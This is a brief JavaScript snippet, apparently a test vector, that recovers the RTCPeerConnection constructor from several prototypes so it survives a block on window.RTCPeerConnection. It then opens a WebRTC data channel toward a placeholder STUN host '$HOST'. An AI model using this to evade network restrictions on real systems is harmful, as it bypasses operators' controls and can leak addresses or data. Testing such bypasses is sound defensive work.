// vector: constructor found on the prototypes
const owners = [window, Window.prototype, Object.getPrototypeOf(Window.prototype), EventTarget.prototype];
const Peer = owners.map((owner) => Object.getOwnPropertyDescriptor(owner, "RTCPeerConnection")?.value).find(Boolean);
const peer = new Peer({ iceServers: [{ urls: "stun:$HOST" }] });
peer.createDataChannel("way");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
